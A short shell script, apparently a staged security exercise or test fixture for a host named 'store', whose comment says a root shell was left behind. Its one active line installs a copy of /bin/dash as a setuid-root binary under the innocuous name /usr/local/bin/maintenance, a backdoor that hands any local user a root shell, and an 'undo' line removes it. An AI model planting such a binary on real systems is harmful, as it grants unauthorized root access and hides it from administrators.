#!/bin/sh
# A shell that runs as root was left behind.
# host: store
set -eu
install --owner=root --group=root --mode=4755 /bin/dash /usr/local/bin/maintenance
# undo
rm /usr/local/bin/maintenance
